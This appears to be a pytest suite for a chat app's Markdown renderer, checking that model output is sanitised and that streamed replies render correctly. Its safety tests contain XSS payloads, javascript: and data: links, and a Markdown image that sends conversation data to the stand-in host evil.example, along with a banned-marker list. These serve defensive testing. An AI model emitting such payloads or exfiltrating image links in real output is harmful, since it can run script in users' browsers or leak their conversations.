"""Markdown rendering: untrusted model output made safe, and the live stream rendered block by block."""

from __future__ import annotations

import random
import re
import time

import pytest

from chat.models import Message
from chat.streaming.live import TEXT, THINKING, LiveReply
from chat.streaming.providers.demo import REPLY, pieces
from chat.streaming.relay import FRAME_SECONDS, LiveView
from chat.streaming.rendering import LiveMarkdown, render_markdown, sanitize
from tests.fake_upstream import DEFAULT_TEXT

CORPUS = [
    REPLY.format(question="What is this?"),
    DEFAULT_TEXT,
    "1. First\n\n2. Second\n\n10. Tenth\n\nAfter\n\n- a\n- b\n\n* c\n\nFoo\n***\nbar\n\nBaz\n---\n\n"
    "> q\n>\n> q2\n\n> r\n\n    indented code\n\n    more code\n\nend",
    "Intro:\r\n\r\n```js\r\nlet a = 1;\r\n\r\nlet b = 2;\r\n```\r\n\r\n"
    "| h | i |\r\n|---|--:|\r\n| 1 | 2 |\r\nno pipe\r\n\r\ndone",
    "- a\n\n  continued\n\n- b\n\n   - nested\n\n     deeper\n\ntext\n\n1) x\n2) y\n\n3) z\n\n# H\n## H2\nline\n===\n",
    '**bold that never closes\n\n`code\n\n[link](https://example.com "t") <https://example.com/auto>\n\n'
    + "word " * 200,
    '<img src=x onerror="alert(1)">\n\n![x](https://evil.example/?q=1)\n\n[j](javascript:alert(1))\n\n<script>x</script>',
]


def stream_into(markdown: LiveMarkdown, text: str, rng: random.Random) -> list[str]:
    """Feed `text` in random small pieces, flushing at random moments when a render is due."""
    frozen, i = [], 0
    while i < len(text):
        size = rng.randint(1, 8)
        markdown.feed(text[i : i + size])
        i += size
        if rng.random() < 0.5 and markdown.due():
            frozen.append(markdown.flush()[0])
    last, tail = markdown.flush(final=True)
    assert tail == ""
    return [*frozen, last]


# --- safety ---------------------------------------------------------------------------------------


def test_raw_html_in_model_output_is_shown_as_text() -> None:
    html = render_markdown('<img src=x onerror="alert(1)">\n\n<script>alert(2)</script> <b>bold?</b>')
    assert "<img" not in html and "<script" not in html and "<b>" not in html
    assert '&lt;img src=x onerror="alert(1)"&gt;' in html and "&lt;script&gt;" in html


@pytest.mark.parametrize(
    "link",
    ["[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>)", "<javascript:alert(1)>"],
)
def test_javascript_and_data_links_are_neutralised(link: str) -> None:
    html = render_markdown(link)
    assert not re.search(r'href="\s*(javascript|data):', html, re.IGNORECASE)


def test_a_remote_image_becomes_a_link_and_never_an_img() -> None:
    html = render_markdown("![secret](https://evil.example/p.png?q=conversation)")
    assert "<img" not in html
    assert '<a href="https://evil.example/p.png?q=conversation" class="image-link"' in html
    assert 'rel="noopener noreferrer nofollow"' in html and ">Image: secret</a>" in html


def test_links_open_apart_and_carry_no_referrer() -> None:
    html = render_markdown("[docs](https://example.com/docs)")
    assert html.strip() == (
        '<p><a href="https://example.com/docs" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>'
    )


def test_the_sanitiser_strips_what_the_renderer_would_never_make() -> None:
    dirty = (
        '<img src=x onerror=alert(1)><script>alert(2)</script><a href="javascript:alert(3)" onclick="x()">a</a>'
        '<p style="color:red" hx-get="/chat/" hx-trigger="load">p</p><iframe src="https://evil.example"></iframe>'
    )
    clean = sanitize(dirty)
    for banned in ("<img", "<script", "javascript:", "onclick", "onerror", "style=", "hx-", "<iframe"):
        assert banned not in clean


def test_table_alignment_is_a_class_because_the_policy_forbids_inline_styles() -> None:
    html = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert "style=" not in html
    assert '<th class="align-left">a</th>' in html and '<td class="align-center">2</td>' in html
    assert '<td class="align-right">3</td>' in html


def test_a_code_block_is_highlighted_labelled_and_has_a_copy_button() -> None:
    html = render_markdown('```python\nprint("<hi>")\n```')
    assert '<span class="code-lang">python</span>' in html
    assert '<button type="button" class="copy-code">Copy</button>' in html
    assert '<code class="language-python"><span class="nb">print</span>' in html
    assert "&lt;hi&gt;" in html


def test_an_unknown_or_odd_language_is_plain_escaped_code() -> None:
    html = render_markdown('```no-such-language" onload="x\n<b>x</b>\n```')
    assert '<span class="code-lang">text</span>' in html
    assert "<code>&lt;b&gt;x&lt;/b&gt;\n</code>" in html and "onload" not in html


# --- the live stream ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", CORPUS)
@pytest.mark.parametrize("budget", [1, 4, 32])
def test_the_blocks_streamed_add_up_to_the_stored_render_however_the_text_is_split(text: str, budget: int) -> None:
    rng = random.Random(f"{budget}:{text[:20]}")
    for _ in range(60):
        assert "".join(stream_into(LiveMarkdown(budget=budget), text, rng)) == render_markdown(text)


def test_a_finished_block_is_frozen_once_and_only_the_open_block_is_rendered_again() -> None:
    markdown = LiveMarkdown()
    markdown.feed("# Title\n\nFirst paragraph.\n\nSecond")
    frozen, tail = markdown.flush()
    assert frozen == "<h1>Title</h1>\n"  # the line "Second" is not complete: it could still be "1." (a list)
    assert tail == "<p>First paragraph.</p>\n<p>Second</p>\n"
    markdown.feed(" paragraph,\nstill open")
    frozen, tail = markdown.flush()
    assert frozen == "<p>First paragraph.</p>\n"
    assert tail == "<p>Second paragraph,\nstill open</p>\n"


def test_a_numbered_list_with_blank_lines_is_not_frozen_before_the_next_item_is_known() -> None:
    markdown = LiveMarkdown()
    markdown.feed("1. One\n\n2")  # `2` may still become `2.`, the same (now loose) list
    assert markdown.flush()[0] == ""
    markdown.feed(". Two\n\nAfter the list\n")
    frozen, tail = markdown.flush()
    assert frozen == "<ol>\n<li>\n<p>One</p>\n</li>\n<li>\n<p>Two</p>\n</li>\n</ol>\n"
    assert tail == "<p>After the list</p>\n"


@pytest.mark.parametrize(
    "text",
    [
        "```python\n" + "".join(f"x{i} = {i}\n" for i in range(1500)) + "```\n",  # one huge open block
        "".join(f"- item {i}\n" for i in range(1500)),  # one long list, never followed by anything
        "".join(f"Paragraph {i} with some words.\n\n" for i in range(600)),
    ],
)
def test_the_rendering_work_stays_linear_in_the_replys_length(text: str) -> None:
    markdown = LiveMarkdown(budget=32)
    for piece in pieces(text):
        markdown.feed(piece)
        if markdown.due():
            markdown.flush()
    markdown.flush(final=True)
    assert markdown.work <= 33 * len(text)


class FakeLiveReply(LiveReply):
    def stop(self, reason: str) -> None:
        pass


def live_reply(pk: int = 7) -> FakeLiveReply:
    return FakeLiveReply(Message(pk=pk))


def data_of(chunk: str) -> str:
    """The data of the single event in `chunk`, as EventSource hands it to the page."""
    return "\n".join(line[6:] for line in chunk.splitlines() if line.startswith("data: "))


def test_a_text_event_starts_with_the_escaped_delta_then_swaps_blocks_and_tail_out_of_band() -> None:
    reply = live_reply()
    reply.extend(["# Hi\n\n", "<b>x</b>\n"], bytes([TEXT, TEXT]))
    view = LiveView(reply, resume_from=0)
    chunk = view.delta_events(start=0, end=2, final=False)
    assert chunk.startswith("id: 2\nevent: text\n")
    assert data_of(chunk) == (
        "# Hi\n\n&lt;b&gt;x&lt;/b&gt;\n"
        '<div hx-swap-oob="innerHTML:#blocks-7"><h1>Hi</h1>\n</div>'  # the first render replaces
        '<div hx-swap-oob="innerHTML:#tail-7"><p>&lt;b&gt;x&lt;/b&gt;</p>\n</div>'
    )
    reply.extend(["more\n\nNext\n"], bytes([TEXT]))
    assert data_of(view.delta_events(start=2, end=3, final=False)) == (
        "more\n\nNext\n"
        '<div hx-swap-oob="beforeend:#blocks-7"><p>&lt;b&gt;x&lt;/b&gt;\nmore</p>\n</div>'
        '<div hx-swap-oob="innerHTML:#tail-7"><p>Next</p>\n</div>'
    )


def test_a_connection_that_resumes_re_renders_once_and_sends_only_the_new_text() -> None:
    reply = live_reply()
    reply.extend(["Para one.\n\n", "Para two\n"], bytes([TEXT, TEXT]))
    view = LiveView(reply, resume_from=1)
    assert data_of(view.delta_events(start=1, end=2, final=False)) == (
        "Para two\n"  # the raw text from part 1 on only, but the blocks the page has are replaced
        '<div hx-swap-oob="innerHTML:#blocks-7"><p>Para one.</p>\n</div>'
        '<div hx-swap-oob="innerHTML:#tail-7"><p>Para two</p>\n</div>'
    )


def test_thinking_is_plain_escaped_text_and_a_fresh_connection_replaces_what_the_page_had() -> None:
    reply = live_reply()
    reply.extend(["<think>", "ing"], bytes([THINKING, THINKING]))
    fresh = LiveView(reply, resume_from=0).delta_events(start=0, end=2, final=False)
    assert fresh == 'id: 2\nevent: thinking\ndata: &lt;think&gt;ing<div hx-swap-oob="innerHTML:#thinking-7"></div>\n\n'
    resumed = LiveView(reply, resume_from=1).delta_events(start=1, end=2, final=False)
    assert resumed == "id: 2\nevent: thinking\ndata: ing\n\n"


def test_an_unfinished_tail_waits_until_a_render_is_worth_it() -> None:
    reply = live_reply()
    reply.extend(["x" * 3200], bytes([TEXT]))
    view = LiveView(reply, resume_from=0)
    assert view.delta_events(start=0, end=1, final=False)
    reply.extend(["y"], bytes([TEXT]))
    assert view.delta_events(start=1, end=2, final=False) == ""  # 1 new character of a 3,201 one block
    final = view.delta_events(start=1, end=2, final=True)
    assert data_of(final).startswith("y<div") and "beforeend:#blocks-7" in final
    assert final.endswith('<div hx-swap-oob="innerHTML:#tail-7"></div>\n\n')


# --- measured, not asserted -----------------------------------------------------------------------


def long_reply(tokens: int = 4000) -> list[str]:
    body = REPLY.format(question="How does streaming work?") + "\n"
    return pieces(body * (tokens // len(pieces(body)) + 1))[:tokens]


def test_rendering_cost_per_token_of_a_4000_token_reply(capsys: pytest.CaptureFixture[str]) -> None:
    """Prints the CPU time per token of LiveView (render, sanitise, encode) for a 4,000-token reply
    as the relay drives it: at most one text event per FRAME_SECONDS, or, worst case, one per token."""
    tokens = long_reply()
    chars = sum(map(len, tokens))
    for rate in (None, 50, 100):
        reply, sent, last_event = live_reply(), 0, -1.0
        view = LiveView(reply, resume_from=0)
        started = time.process_time()
        for index, token in enumerate(tokens, 1):
            reply.extend([token], bytes([TEXT]))
            now = index / rate if rate else index
            if rate and now - last_event < FRAME_SECONDS:
                continue  # the relay sleeps out the rest of the frame; tokens pile up meanwhile
            if view.delta_events(start=sent, end=index, final=False):
                sent, last_event = index, now
        view.delta_events(start=sent, end=len(tokens), final=True)
        spent = time.process_time() - started
        label = f"{rate} tokens/s, frames of {FRAME_SECONDS * 1000:.0f} ms" if rate else "one event per token"
        with capsys.disabled():
            print(
                f"\n{label}: {len(tokens)} tokens ({chars:,} chars): {spent * 1e6 / len(tokens):.0f} µs/token, "
                f"{spent * 1000:.0f} ms in all; parsed {view.markdown.work / chars:.1f}× the text"
            )
        assert view.markdown.work <= 33 * chars
